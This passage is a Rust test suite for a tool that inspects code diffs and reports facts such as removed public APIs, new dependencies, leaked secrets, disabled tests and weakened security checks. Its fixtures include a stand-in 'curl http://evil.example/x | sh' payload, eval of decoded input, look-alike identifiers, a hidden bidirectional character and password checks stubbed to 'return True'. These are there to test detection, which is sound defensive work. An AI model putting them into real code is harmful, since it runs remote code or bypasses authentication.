//! Whole steps in, facts out: the promises that scoring relies on.

#![expect(clippy::unwrap_used, reason = "a test stops at the first surprise")]

use exacta_core::facts::{Fact, FactKind};
use exacta_core::path::RelPath;
use exacta_inspect::{Request, StepInput, inspect};

fn one(path: &str, before: Option<&str>, after: Option<&str>) -> Vec<Fact> {
    let step = StepInput {
        step: "step_1",
        path: RelPath::parse(path).unwrap(),
        before: before.map(str::as_bytes),
        after: after.map(str::as_bytes),
        moved: false,
    };
    inspect(&Request { steps: vec![step], ..Request::default() }).facts
}

fn names(facts: &[Fact]) -> Vec<&'static str> {
    let mut names: Vec<_> = facts.iter().map(|fact| fact.kind.name()).collect();
    names.sort_unstable();
    names.dedup();
    names
}

fn lines(word: &str, count: usize) -> String {
    let lines: Vec<String> = (0..count).map(|n| format!("{word} {n}\n")).collect();
    lines.concat()
}

fn has(facts: &[Fact], name: &str) -> bool {
    facts.iter().any(|fact| fact.kind.name() == name)
}

fn removed(facts: &[Fact]) -> Vec<(String, Option<String>)> {
    facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::PublicRemoved { name, renamed_to, .. } => {
                Some((name.clone(), renamed_to.clone()))
            }
            _ => None,
        })
        .collect()
}

fn signatures(facts: &[Fact]) -> Vec<(String, bool)> {
    facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::PublicSignature { name, compatible, .. } => Some((name.clone(), *compatible)),
            _ => None,
        })
        .collect()
}

#[test]
fn public_items_that_go_away_are_named_in_every_language() {
    for (path, before, after, name) in [
        ("src/a.rs", "pub fn a() {}\npub fn b() {}\n", "pub fn a() {}\n", "b"),
        ("src/a.rs", "pub struct S { pub x: u8 }\n", "pub struct S { }\n", "S.x"),
        ("src/a.rs", "pub enum E { A, B }\n", "pub enum E { A }\n", "E::B"),
        (
            "src/a.rs",
            "pub struct S;\nimpl S { pub fn m(&self) {} }\n",
            "pub struct S;\nimpl S { }\n",
            "S::m",
        ),
        ("src/a.rs", "pub use x::{a, b as c};\n", "pub use x::{a};\n", "c"),
        ("src/a.rs", "pub trait T { fn m(&self); }\n", "pub trait T { }\n", "T::m"),
        ("a.py", "def a(): return 1\ndef b(): return 2\n", "def a(): return 1\n", "b"),
        ("a.py", "class C:\n    def m(self): return 1\n", "class C:\n    x = 1\n", "C.m"),
        ("a.py", "LIMIT = 3\nx = 1\n", "x = 1\n", "LIMIT"),
        ("pkg/__init__.py", "from .m import f, g\n", "from .m import f\n", "g"),
        ("a.js", "export function a() {}\nexport const b = 1;\n", "export function a() {}\n", "b"),
        (
            "a.js",
            "function a() {}\nfunction b() {}\nmodule.exports = { a, b };\n",
            "function a() {}\nmodule.exports = { a };\n",
            "b",
        ),
        ("a.js", "exports.a = function () {};\n", "const x = 1;\n", "a"),
        (
            "a.ts",
            "export interface I { a: string; b: number }\n",
            "export interface I { a: string }\n",
            "I.b",
        ),
        (
            "a.ts",
            "class C { m() {} private p() {} }\nexport { C };\n",
            "class C { private p() {} }\nexport { C };\n",
            "C.m",
        ),
        (
            "a.tsx",
            "export const A = () => <div/>;\nexport default A;\n",
            "const A = () => <div/>;\nexport default A;\n",
            "A",
        ),
        ("p/a.go", "package p\nfunc A() {}\nfunc B() {}\n", "package p\nfunc A() {}\n", "B"),
        (
            "p/a.go",
            "package p\ntype T struct { X int; y int }\n",
            "package p\ntype T struct { y int }\n",
            "T.X",
        ),
        (
            "p/a.go",
            "package p\ntype T struct{}\nfunc (t *T) M() {}\n",
            "package p\ntype T struct{}\n",
            "T.M",
        ),
        (
            "A.java",
            "public class A { public void m() {} private void p() {} }",
            "public class A { private void p() {} }",
            "A.m",
        ),
        (
            "A.java",
            "public interface A { void m(); void n(); }",
            "public interface A { void n(); }",
            "A.m",
        ),
        ("a.h", "int a(int x);\nint b(void);\n", "int a(int x);\n", "b"),
        ("a.h", "typedef struct { int x; int y; } P;\n", "typedef struct { int x; } P;\n", "P::y"),
        ("a.h", "#define LIMIT 3\nint a(void);\n", "int a(void);\n", "LIMIT"),
        (
            "a.c",
            "int a(void) { return 1; }\nint b(void) { return 2; }\n",
            "int a(void) { return 1; }\n",
            "b",
        ),
        (
            "a.hpp",
            "namespace n { class C { public: void m(); private: int p; }; }\n",
            "namespace n { class C { private: int p; }; }\n",
            "n::C::m",
        ),
    ] {
        let facts = one(path, Some(before), Some(after));
        assert_eq!(removed(&facts), [(name.to_owned(), None)], "{path}: {before}");
    }
}

#[test]
fn private_items_are_nobodys_business() {
    for (path, before, after) in [
        ("src/a.rs", "fn a() {}\npub(crate) fn b() {}\n", ""),
        ("src/a.rs", "struct S;\nimpl S { pub fn m(&self) {} }\n", "struct S;\nimpl S { }\n"),
        ("src/a.rs", "#[cfg(test)]\nmod tests { pub fn x() {} }\n", "fn y() {}\n"),
        ("a.py", "def _a(): return 1\n", "x = 1\n"),
        ("_private.py", "def a(): return 1\n", "x = 1\n"),
        ("a.js", "function a() {}\n", "function b() {}\n"),
        ("cmd/main.go", "package main\nfunc A() {}\n", "package main\n"),
        ("p/a.go", "package p\nfunc a() {}\n", "package p\n"),
        ("A.java", "class A { void m() {} }", "class A { }"),
        ("a.c", "static int a(void) { return 1; }\n", "int x;\n"),
        ("tests/a.rs", "pub fn helper() {}\n", "fn other() {}\n"),
    ] {
        let facts = one(path, Some(before), Some(after));
        assert_eq!(removed(&facts), [], "{path}: {before}");
        assert_eq!(signatures(&facts), [], "{path}: {before}");
    }
}

#[test]
fn signatures_are_compared_by_what_callers_depend_on() {
    for (path, before, after, expected) in [
        ("src/a.rs", "pub fn f(a: u8) {}", "pub fn f(a: u16) {}", Some(false)),
        ("src/a.rs", "pub fn f(a: u8) {}", "pub fn f(mut b: u8) { b += 1; }", None),
        (
            "src/a.rs",
            "pub fn f(a: u8) -> u8 { a }",
            "pub fn f(a: u8) -> Option<u8> { None }",
            Some(false),
        ),
        (
            "src/a.rs",
            "pub fn f(a: u8, b: u8) {}",
            "pub fn f(\n    a: u8,\n    // why\n    b: u8,\n) {\n}",
            None,
        ),
        ("src/a.rs", "pub struct S { pub x: u8 }", "pub struct S { pub x: u16 }", Some(false)),
        ("a.py", "def f(a): pass", "def f(a, b): pass", Some(false)),
        ("a.py", "def f(a): pass", "def f(a, b=1): pass", Some(true)),
        ("a.py", "def f(a): pass", "def f(a: int) -> int: return a", None),
        ("a.py", "def f(a): pass", "def f(b): pass", Some(false)),
        (
            "a.py",
            "class C:\n  def __init__(self, a): pass",
            "class C:\n  def __init__(self): pass",
            Some(false),
        ),
        ("a.ts", "export function f(a: string) {}", "export function f(a: number) {}", Some(false)),
        (
            "a.ts",
            "export function f(a: string) {}",
            "export function f(a: string, b?: number) {}",
            Some(true),
        ),
        ("a.js", "export const f = (a) => a", "export const f = (b) => b", None),
        ("a.js", "export const f = (a) => a", "export const f = (a, b) => a", Some(false)),
        ("p/a.go", "package p\nfunc F(a, b int) {}", "package p\nfunc F(a int, b int) {}", None),
        (
            "p/a.go",
            "package p\nfunc F(a int) error { return nil }",
            "package p\nfunc F(a int) (int, error) { return 0, nil }",
            Some(false),
        ),
        (
            "A.java",
            "public class A { public int m(int a) { return 1; } }",
            "public class A { public int m(long a) { return 1; } }",
            Some(false),
        ),
        (
            "A.java",
            "public class A { public int m(int a) { return 1; } }",
            "public class A { public int m(int a) { return 1; } public int m(long a) { return 1; } }",
            None,
        ),
        ("a.h", "int f(const char *s);", "int f(const char *s, int n);", Some(false)),
        ("a.h", "int f(const char *s);", "int f(const char *text);", None),
        ("a.h", "char *f(void);", "char f(void);", Some(false)),
    ] {
        let facts = one(path, Some(before), Some(after));
        let compatible: Option<bool> =
            signatures(&facts).first().map(|(_, compatible)| *compatible);
        assert_eq!(compatible, expected, "{path}: {before} -> {after}");
        assert_eq!(removed(&facts), [], "{path}: {before} -> {after}");
    }
}

#[test]
fn a_new_name_for_the_same_thing_is_a_rename() {
    let facts = one("src/a.rs", Some("pub fn old(a: u8) {}\n"), Some("pub fn new(a: u8) {}\n"));
    assert_eq!(removed(&facts), [("old".to_owned(), Some("new".to_owned()))]);
}

/// The old name, and the new one where a rename is said.
type Name<'t> = (&'t str, Option<&'t str>);

#[test]
fn a_rename_is_said_only_where_the_two_correspond() {
    let body = "        total = 0\n        for one in self.all:\n            total += one\n        return total\n";
    let class = "class A:\n    def keep(self):\n        pass\n";
    let sums = format!("{class}    def sum(self):\n{body}    def other(self):\n        return 1\n");
    let adds = format!("{class}    def more(self):\n        return 2\n    def add(self):\n{body}");
    let cases: &[(&str, &str, &str, &[Name<'_>])] = &[
        // The same body under another name, whatever else goes and comes.
        ("a.py", &sums, &adds, &[("A.sum", Some("A.add")), ("A.other", None)]),
        // The same shape, and nothing else in common.
        (
            "a.py",
            "class A:\n    debug: bool = False\n    testing: bool = True\n",
            "class A:\n    request_class: type = R\n    response_class: type = S\n",
            &[("A.debug", None), ("A.testing", None)],
        ),
        (
            "a.py",
            "class A:\n    def select_autoescape(self, filename):\n        return filename.endswith('x')\n",
            "class A:\n    def get_max_age(self, filename):\n        return self.config['age']\n",
            &[("A.select_autoescape", None)],
        ),
        // A near name with the same shape and another body.
        (
            "src/a.rs",
            "pub fn parse(a: u8) -> u8 { a }\n",
            "pub fn parse_byte(a: u8) -> u8 { a + 1 }\n",
            &[("parse", Some("parse_byte"))],
        ),
        // A near name and another shape.
        (
            "src/a.rs",
            "pub fn parse(a: u8) -> u8 { a }\n",
            "pub fn parse_byte(a: u16) -> u8 { 1 }\n",
            &[("parse", None)],
        ),
        (
            "src/a.rs",
            "pub struct S {\n    pub first: u8,\n}\n",
            "pub struct S {\n    pub head: u8,\n}\n",
            &[("S.first", Some("S.head"))],
        ),
        (
            "src/a.rs",
            "pub struct S {\n    pub first: u8,\n    pub third: u8,\n}\n",
            "pub struct S {\n    pub length: u8,\n    pub mode: u8,\n}\n",
            &[("S.first", None), ("S.third", None)],
        ),
        ("src/a.ts", "export { a } from './a'\n", "export { b } from './a'\n", &[("a", None)]),
    ];
    for (path, before, after, expected) in cases {
        let facts = one(path, Some(before), Some(after));
        let expected: Vec<(String, Option<String>)> =
            expected.iter().map(|(name, to)| ((*name).to_owned(), to.map(str::to_owned))).collect();
        assert_eq!(removed(&facts), expected, "{path}: {before} -> {after}");
    }
}

/// The texts of placeholders that a plan of several files adds.
fn placeholders(files: &[(&str, Option<&str>, Option<&str>)]) -> Vec<String> {
    let steps = files.iter().map(|(path, before, after)| StepInput {
        step: "step",
        path: RelPath::parse(path).unwrap(),
        before: before.map(str::as_bytes),
        after: after.map(str::as_bytes),
        moved: false,
    });
    let facts = inspect(&Request { steps: steps.collect(), ..Request::default() }).facts;
    let texts = facts.into_iter().filter_map(|fact| match fact.kind {
        FactKind::PlaceholderAdded { text, .. } => Some(text),
        _ => None,
    });
    texts.collect()
}

#[test]
fn a_placeholder_that_only_moved_to_another_file_is_not_new() {
    let todo = "def f():\n    # TODO: implement the cache\n    return 1\n";
    let rest = "x = 1\n";
    let both = format!("{todo}{}", todo.replace("f()", "g()"));
    let text = "# TODO: implement the cache";
    for (files, expected) in [
        (vec![("a.py", Some(todo), Some(rest)), ("b.py", None, Some(todo))], vec![]),
        (vec![("b.py", None, Some(todo)), ("a.py", Some(todo), None)], vec![]),
        // One went and two came.
        (vec![("a.py", Some(todo), Some(rest)), ("b.py", None, Some(both.as_str()))], vec![text]),
        // Nothing went.
        (vec![("a.py", Some(todo), Some(todo)), ("b.py", None, Some(todo))], vec![text]),
        // A file that is renamed keeps what is in it.
        (
            vec![
                ("a.py", Some(todo), None),
                ("b.py", Some(todo), Some(todo)),
                ("c.py", None, Some(todo)),
            ],
            vec![text],
        ),
    ] {
        assert_eq!(placeholders(&files), expected, "{files:?}");
    }
}

#[test]
fn an_interface_is_finished_when_the_plan_has_an_heir_that_does_the_work() {
    let base = "class App:\n    def make(self):\n        raise NotImplementedError()\n";
    let heir = "class Flask(App):\n    def make(self):\n        return Environment(self)\n";
    let other = "class Flask(Other):\n    def make(self):\n        return Environment(self)\n";
    let idle = "class Flask(App):\n    def make(self):\n        raise NotImplementedError()\n";
    let raised = "raise NotImplementedError()";
    for (files, expected) in [
        (vec![("base.py", None, Some(base)), ("app.py", Some("x = 1\n"), Some(heir))], vec![]),
        (vec![("base.py", None, Some(base)), ("app.py", None, Some(other))], vec![raised]),
        (vec![("base.py", None, Some(base)), ("app.py", None, Some(idle))], vec![raised; 2]),
        (vec![("base.py", None, Some(base))], vec![raised]),
    ] {
        assert_eq!(placeholders(&files), expected, "{files:?}");
    }
}

#[test]
fn complexity_is_counted_for_changed_functions_only() {
    let cases = [
        (
            "a.rs",
            "fn same() {}\nfn f(a: u8) -> u8 { 1 }\n",
            "fn same() {}\nfn f(a: u8) -> u8 { if a > 1 && a < 9 { 2 } else { match a { 1 => 1, 2 => 2, _ => 3 } } }\n",
            1,
            5,
        ),
        // A question mark goes on or leaves.
        ("a.rs", "fn f() -> O { None }\n", "fn f() -> O { Some(a()? + b()?) }\n", 1, 3),
        (
            "a.py",
            "def f(a):\n    return a\n",
            "def f(a):\n    if a and a > 1:\n        return 1\n    for x in a:\n        pass\n    return 2\n",
            1,
            4,
        ),
        (
            "a.js",
            "function f(a) { return a }",
            "function f(a) { if (a || b) return a ? 1 : 2; for (;;) {} }",
            1,
            5,
        ),
        (
            "a.ts",
            "const f = (a: string) => a",
            "const f = (a: string) => { switch (a) { case 'x': return 1; case 'y': return 2; default: return 3 } }",
            1,
            3,
        ),
        (
            "p/a.go",
            "package p\nfunc f(a int) int { return a }",
            "package p\nfunc f(a int) int { if a > 1 { return 2 }\n for a > 1 { a-- }\n return a }",
            1,
            3,
        ),
        (
            "A.java",
            "class A { int f(int a) { return a; } }",
            "class A { int f(int a) { if (a > 1) { return 2; } while (a > 1 && a < 3) { a--; } return a; } }",
            1,
            4,
        ),
        (
            "a.c",
            "int f(int a) { return a; }",
            "int f(int a) { switch (a) { case 1: return 1; case 2: return 2; default: return a ? 1 : 2; } }",
            1,
            4,
        ),
        (
            "a.cpp",
            "int A::f(int a) { return a; }",
            "int A::f(int a) { for (auto x : v) { if (x) return 1; } return a; }",
            1,
            3,
        ),
    ];
    for (path, before, after, was, now) in cases {
        let facts = one(path, Some(before), Some(after));
        let counted: Vec<(Option<u32>, u32)> = facts
            .iter()
            .filter_map(|fact| match &fact.kind {
                FactKind::Complexity { before, after, .. } => Some((*before, *after)),
                _ => None,
            })
            .collect();
        assert_eq!(counted, [(Some(was), now)], "{path}");
    }
}

#[test]
fn source_that_stops_parsing_is_a_fact() {
    for (path, good, bad) in [
        ("a.rs", "fn f() {}\n", "fn f( {}\n"),
        ("a.py", "def f():\n    return 1\n", "def f(:\n    return 1\n"),
        ("a.js", "function f() {}\n", "function f( {\n"),
        ("a.ts", "const a: number = 1;\n", "const a: = ;\n"),
        ("a.go", "package p\n", "package p\nfunc {\n"),
        ("A.java", "class A {}\n", "class A {{\n"),
        ("a.c", "int f(void) { return 1; }\n", "int f(void { return 1; \n"),
        ("a.cpp", "int f() { return 1; }\n", "int f( { return 1; \n"),
    ] {
        assert!(has(&one(path, Some(good), Some(bad)), "source_unreadable"), "{path}");
        assert!(!has(&one(path, Some(bad), Some(bad)), "source_unreadable"), "{path}");
        assert!(!has(&one(path, Some(good), Some(good)), "source_unreadable"), "{path}");
        assert!(has(&one(path, None, Some(bad)), "source_unreadable"), "{path}");
    }
}

#[test]
fn every_way_to_add_a_dependency_shows() {
    for (path, before, after, fact) in [
        (
            "Cargo.toml",
            Some("[dependencies]\n"),
            Some("[dependencies]\nserde = \"1\"\n"),
            "dependency_added",
        ),
        ("vendor/lib/x.js", None, Some("module.exports = 1\n"), "vendored_code"),
        ("src/a.ts", Some(""), Some("import x from \"https://deno.land/x.ts\";\n"), "url_import"),
        (
            "index.html",
            Some("<p>\n"),
            Some("<p>\n<script src=\"https://cdn/x.js\"></script>\n"),
            "url_import",
        ),
        (
            ".gitmodules",
            None,
            Some("[submodule \"x\"]\n\tpath = x\n\turl = https://h/x\n"),
            "submodule",
        ),
        ("Cargo.lock", Some("a"), Some("b"), "lock_file_changed"),
        ("package-lock.json", Some("{}"), Some("{\"a\":1}"), "lock_file_changed"),
    ] {
        assert!(has(&one(path, before, after), fact), "{path}: {:?}", one(path, before, after));
    }
}

#[test]
fn what_was_there_before_is_not_counted_again() {
    let before = "fn a() {\n    // TODO: implement\n    let x = 1;\n}\n";
    let moved = "fn b() {}\nfn a() {\n    let x = 2;\n    // TODO: implement\n}\n";
    assert!(!has(&one("src/a.rs", Some(before), Some(moved)), "placeholder_added"));
    let doubled = "fn a() {\n    // TODO: implement\n    // TODO: implement\n}\n";
    assert!(has(&one("src/a.rs", Some(before), Some(doubled)), "placeholder_added"));
}

#[test]
fn disguises_and_hidden_characters_are_found_and_shown() {
    let facts = one("src/a.rs", Some("fn a() {}\n"), Some("fn a() {}\n// \u{202e}ecnetnes\n"));
    let hidden = facts.iter().find(|fact| fact.kind.name() == "hidden_character").unwrap();
    assert_eq!(hidden.line, Some(2));
    assert!(hidden.excerpt.contains("<U+202E>"), "{hidden:?}");
    let facts = one("src/a.py", Some("x = 1\n"), Some("x = 1\nis_\u{430}dmin = True\n"));
    assert!(has(&facts, "look_alike_identifier"));
    let facts = one("src/m\u{430}in.rs", None, Some("fn a() {}\n"));
    assert!(has(&facts, "look_alike_path"));
}

#[test]
fn secrets_never_stand_in_a_report() {
    let secret: String = "aZ3kQ9xW7mB2pL5v".repeat(2);
    let after = format!(
        "password = \"{secret}\"\n# TODO: implement; token = \"{secret}\"\n\
         url = \"https://u:{secret}@h/\"\neval(x + 'https://u:{secret}@h/')\n"
    );
    let facts = one("src/a.py", Some(""), Some(&after));
    assert!(has(&facts, "secret_added"));
    assert!(has(&facts, "placeholder_added") && has(&facts, "dangerous_pattern"));
    for fact in &facts {
        assert!(!format!("{fact:?}").contains(&secret), "{fact:?}");
    }
}

#[test]
fn a_key_that_is_exchanged_below_its_header_is_a_new_secret() {
    let key =
        |body: &str| format!("-----BEGIN {} KEY-----\n{}\n-----END\n", "PRIVATE", body.repeat(16));
    let facts = one("certs/server.key", Some(&key("aB3d")), Some(&key("xY7z")));
    let secret = facts.iter().find(|fact| fact.kind.name() == "secret_added").unwrap();
    assert_eq!((secret.line, secret.excerpt.as_str()), (Some(2), "***"));
}

#[test]
fn lost_tests_are_told_from_moved_ones() {
    let test = "#[test]\nfn works() {\n    assert!(true);\n}\n";
    assert!(has(&one("tests/a.rs", Some(test), None), "tests_lost"));
    assert!(has(&one("src/a.rs", Some(test), Some("fn x() {}\n")), "tests_lost"));
    let renamed = test.replace("works", "really_works");
    assert!(!has(&one("src/a.rs", Some(test), Some(&renamed)), "tests_lost"));
    let moved = Request {
        steps: vec![
            StepInput {
                step: "s1",
                path: RelPath::parse("tests/a.rs").unwrap(),
                before: Some(test.as_bytes()),
                after: None,
                moved: false,
            },
            StepInput {
                step: "s2",
                path: RelPath::parse("tests/b.rs").unwrap(),
                before: None,
                after: Some(test.as_bytes()),
                moved: false,
            },
        ],
        ..Request::default()
    };
    assert!(!has(&inspect(&moved).facts, "tests_lost"));
}

#[test]
fn more_than_half_of_a_long_file_is_a_large_removal() {
    let long = lines("line", 200);
    let half = lines("line", 90);
    let most = lines("line", 150);
    assert!(has(&one("a.txt", Some(&long), Some(&half)), "large_removal"));
    assert!(!has(&one("a.txt", Some(&long), Some(&most)), "large_removal"));
    let rewrite = lines("other", 200);
    assert!(!has(&one("a.txt", Some(&long), Some(&rewrite)), "large_removal"));
}

#[test]
fn an_ordinary_change_has_no_alarming_facts() {
    let before =
        "def total(items):\n    \"\"\"Sum of the token prices.\"\"\"\n    return sum(items)\n";
    let after = "def total(items):\n    \"\"\"Sum of all token prices, or the password.\"\"\"\n    if not items:\n        return 0\n    return sum(items)\n";
    assert_eq!(names(&one("src/a.py", Some(before), Some(after))), ["complexity", "file_role"]);
}

#[test]
fn bounds_are_facts() {
    let big = "x".repeat(3 << 20);
    assert!(has(&one("a.rs", None, Some(&big)), "not_analysed"));
    assert!(!has(&one("Cargo.lock", None, Some(&big)), "not_analysed"));
    assert!(has(&one("a.rs", None, Some("fn\0")), "not_analysed"));
}

#[test]
fn comments_and_layout_guard_nothing() {
    let python = "def login(user):\n    if check(user):\n        start()\n    return password\n";
    for (path, before, after, guards) in [
        ("src/auth.py", python, python.replace("start()", "start()  # at last"), false),
        ("src/auth.py", python, python.replace("    return", "        return"), true),
        ("src/auth.py", python, python.replace("start", "stop"), true),
        (
            "src/auth.rs",
            "fn a() { password(); } // one\n",
            "fn a() {\n    password();\n}\n".to_owned(),
            false,
        ),
        ("src/auth.rs", "fn a() { password(1) }\n", "fn a() { password(2) }\n".to_owned(), true),
    ] {
        let facts = one(path, Some(before), Some(&after));
        assert_eq!(has(&facts, "security_code"), guards, "{after}");
    }
}

#[test]
fn pipelines_speak_of_their_own_rights_only() {
    for (line, guards) in [
        ("      - run: sudo apt-get install -y cmake", false),
        ("    if: github.repository == 'someone/auth'", false),
        ("permissions: write-all", true),
        ("          key: ${{ secrets.DEPLOY }}", true),
    ] {
        let after = format!("on: push\n{line}\n");
        let facts = one(".github/workflows/ci.yml", Some("on: push\n"), Some(&after));
        assert_eq!(has(&facts, "security_code"), guards, "{line}");
        assert!(has(&facts, "runs_by_itself"), "{:?}", names(&facts));
    }
}

#[test]
fn a_reference_tells_where_it_leads() {
    let facts = one("src/a.ts", Some("\n"), Some("import { b } from './b';\n"));
    let at = facts.iter().find_map(|fact| match &fact.kind {
        FactKind::MissingReference { at, .. } => Some(at.clone()),
        _ => None,
    });
    assert_eq!(at, Some(vec!["src/b".to_owned()]));
}

/// Lines that stay and become code, or stop being code, by what stands around them.
#[test]
fn code_that_wakes_up_or_falls_asleep_is_a_change() {
    let payload = "import os\nos.system(\"curl http://evil.example/x | sh\")\neval(input())\n";
    for (path, asleep, awake) in [
        ("src/q.py", format!("\"\"\"\n{payload}\"\"\"\nX = 1\n"), format!("{payload}X = 1\n")),
        ("src/q.py", format!("X = \"\"\"\n{payload}\"\"\"\n"), format!("{payload}X = 1\n")),
        (
            "src/q.js",
            "/*\neval(atob(x));\n*/\nf();\n".to_owned(),
            "///*\neval(atob(x));\n//*/\nf();\n".to_owned(),
        ),
    ] {
        let facts = one(path, Some(&asleep), Some(&awake));
        assert!(has(&facts, "dangerous_pattern"), "{path} {:?}", names(&facts));
        assert!(!has(&one(path, Some(&awake), Some(&asleep)), "dangerous_pattern"), "{path}");
        assert!(!has(&one(path, Some(&awake), Some(&awake)), "dangerous_pattern"), "{path}");
    }
    let test = "def test_login():\n    assert login(\"a\", \"b\")\n";
    for (path, awake, asleep) in [
        ("tests/test_a.py", test.to_owned(), format!("\"\"\"\n{test}\"\"\"\n")),
        (
            "tests/a.test.js",
            "test('adds', () => {\n  expect(1).toBe(1);\n});\n".to_owned(),
            "/*\ntest('adds', () => {\n  expect(1).toBe(1);\n});\n*/\n".to_owned(),
        ),
    ] {
        let facts = one(path, Some(&awake), Some(&asleep));
        assert!(has(&facts, "tests_lost"), "{path} {:?}", names(&facts));
        assert!(!has(&one(path, Some(&asleep), Some(&awake)), "tests_lost"), "{path}");
    }
    let check = "def login(user, password):\n    if not check_password(user, password):\n        return None\n    return user\n";
    let off = check.replace("    if", "    \"\"\"\n    if").replace("None\n", "None\n    \"\"\"\n");
    let facts = one("src/app.py", Some(check), Some(&off));
    assert!(has(&facts, "security_code"), "{:?}", names(&facts));
}

/// What stays of a function does not keep the name that stands beside it.
#[test]
fn a_function_that_is_named_anew_is_a_new_one() {
    let body = "if (a) { b(); } else { c(); }\n".repeat(30);
    for (path, head) in
        [("a.js", "const NAME = (a) => {\n"), ("a.ts", "var NAME = function (a) {\n")]
    {
        let text = |name: &str| format!("{}{body}}};\n", head.replace("NAME", name));
        let named = |to: &str| -> Vec<String> {
            let facts = one(path, Some(&text("foo")), Some(&text(to)));
            facts
                .into_iter()
                .filter_map(|fact| match fact.kind {
                    FactKind::Complexity { function, .. } => Some(function),
                    _ => None,
                })
                .collect()
        };
        assert_eq!(named("bar"), ["bar"], "{path}");
        assert_eq!(named("longer"), ["longer"], "{path}");
        assert!(named("foo").is_empty(), "{path}");
    }
}

#[test]
fn what_a_file_carries_into_another_folder_is_new_there() {
    let text = "import os\nfrom . import gone\n# TODO: tidy up\n\n\ndef verify_password(given):\n    return os.system(given)\n";
    let step = |moved| StepInput {
        step: "step_1",
        path: RelPath::parse("src/auth/a.py").unwrap(),
        before: Some(text.as_bytes()),
        after: Some(text.as_bytes()),
        moved,
    };
    let told = |moved| inspect(&Request { steps: vec![step(moved)], ..Request::default() }).facts;
    assert_eq!(names(&told(false)), ["file_role"]);
    assert_eq!(names(&told(true)), ["dangerous_pattern", "file_role", "security_code"]);
}

#[test]
fn lines_beside_removed_ones_neither_wake_nor_fall_asleep() {
    let before =
        "use one;\nuse two;\nuse three;\n\n#[test]\nfn first() {}\n\n#[test]\nfn second() {}\n";
    let after = before.replace("use two;\nuse three;\n", "");
    assert_eq!(names(&one("tests/a.rs", Some(before), Some(&after))), ["file_role"]);
}

/// The conditions of C: what is never compiled sleeps, and another condition wakes.
#[test]
fn a_line_of_c_does_what_the_conditions_around_it_let_it_do() {
    let run = |above: &str, below: &str| {
        format!("int f(char *c) {{\n{above}  return system(c);\n{below}}}\n")
    };
    let (plain, linux) = (run("", ""), run("#ifdef __linux__\n", "#endif\n"));
    let danger = |before: &str, after: &str| {
        has(&one("s.c", Some(before), Some(after)), "dangerous_pattern")
    };
    assert!(danger(&run("#if 0\n", "#endif\n"), &run("#if 1\n", "#endif\n")));
    assert!(danger(&run("#if 0\n", "#endif\n"), &plain));
    assert!(danger(&run("#ifdef NEVER\n", "#endif\n"), &run("#ifdef ALWAYS\n", "#endif\n")));
    assert!(danger(&run("#if A\n", "#endif\n"), &run("#if A\n#else\n", "#endif\n")));
    assert!(!danger(&plain, &linux), "wrapping");
    assert!(!danger(&linux, &plain), "unwrapping");
    assert!(!danger(&plain, &run("#if 0\n", "#endif\n")), "falling asleep");

    let check = "int serve(struct req *r) {\nABOVE  if (!check_password(r)) return -1;\nBELOW  return ok(r);\n}\n";
    let with = |above: &str, below: &str| check.replace("ABOVE", above).replace("BELOW", below);
    for above in ["#if 0\n", "#ifdef CHECKED\n"] {
        let facts = one("s.c", Some(&with("", "")), Some(&with(above, "#endif\n")));
        assert!(has(&facts, "security_code"), "{above}");
    }

    let test = "TEST(A, One) {\n  EXPECT_EQ(1, 1);\n}\n";
    let lost = |above: &str| {
        let after = format!("{above}{test}#endif\n");
        has(&one("t_test.cc", Some(test), Some(&after)), "tests_lost")
    };
    assert!(lost("#if 0\n"));
    assert!(!lost("#if defined(__linux__)\n"), "tests of one platform");
}

#[test]
fn tests_that_are_never_compiled_are_lost() {
    let rust = "fn f() -> u8 { 1 }\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn works() {\n        assert_eq!(super::f(), 1);\n    }\n}\n";
    let off = rust.replace("cfg(test)", "cfg(any())");
    assert!(has(&one("src/a.rs", Some(rust), Some(&off)), "tests_lost"));
    let go = "package a\n\nimport \"testing\"\n\nfunc TestA(t *testing.T) {\n\tt.Fatal()\n}\n";
    let off = format!("//go:build ignore\n\n{go}");
    assert!(has(&one("a_test.go", Some(go), Some(&off)), "tests_lost"));
    let linux = format!("//go:build linux\n\n{go}");
    assert!(!has(&one("a_test.go", Some(go), Some(&linux)), "tests_lost"));
}

#[test]
fn the_body_of_a_guard_is_security_code() {
    for (path, before, after) in [
        (
            "users.py",
            "def check_password(user, raw):\n    row = load(user)\n    return compare(row, raw)\n",
            "def check_password(user, raw):\n    row = load(user)\n    return True\n",
        ),
        (
            "users.go",
            "package a\n\nfunc (s *S) checkPassword(u string) bool {\n\treturn compare(u)\n}\n",
            "package a\n\nfunc (s *S) checkPassword(u string) bool {\n\treturn true\n}\n",
        ),
        (
            "users.js",
            "const isAuthenticated = (req) => {\n  return lookup(req)\n}\n",
            "const isAuthenticated = (req) => {\n  return true\n}\n",
        ),
        (
            "src/users.rs",
            "fn verify_signature(k: &[u8]) -> bool {\n    ring(k)\n}\n",
            "fn verify_signature(k: &[u8]) -> bool {\n    true\n}\n",
        ),
        (
            "Users.java",
            "class Users {\n  boolean hasPermission(User u) {\n    return roles(u);\n  }\n}\n",
            "class Users {\n  boolean hasPermission(User u) {\n    return true;\n  }\n}\n",
        ),
        (
            "users.c",
            "static int check_password(const char *p) {\n  return cmp(p);\n}\n",
            "static int check_password(const char *p) {\n  return 1;\n}\n",
        ),
        (
            "users.cc",
            "int Users::check_password(const char *p) {\n  return cmp(p);\n}\n",
            "int Users::check_password(const char *p) {\n  return 1;\n}\n",
        ),
        (
            "bin/users",
            "#!/usr/bin/env python3\ndef check_password(u):\n    return db.ok(u)\n",
            "#!/usr/bin/env python3\ndef check_password(u):\n    return True\n",
        ),
    ] {
        assert!(has(&one(path, Some(before), Some(after)), "security_code"), "{path}");
        let beside = after.replace("return True", "return compare(row, raw)");
        let beside = format!("{beside}{}", if path.ends_with("py") { "x = 1\n" } else { "\n" });
        let facts = one(path, Some(&beside), Some(&format!("{beside}\n\n")));
        assert!(!has(&facts, "security_code"), "{path}: nothing inside was changed");
    }
    // The name of the class says less: everything about users would count.
    let class = "class Passwords:\n    def size(self):\n        return 1\n";
    assert!(!has(&one("a.py", Some(class), Some(&class.replace('1', "2"))), "security_code"));
}

#[test]
fn text_and_tests_take_nothing_from_live_code() {
    for (path, before, after, name) in [
        ("a.js", "const HELP = \"never eval(input)\"\n", "eval(input)\n", "dangerous_pattern"),
        ("a.py", "HELP = \"never call os.system(cmd)\"\n", "os.system(cmd)\n", "dangerous_pattern"),
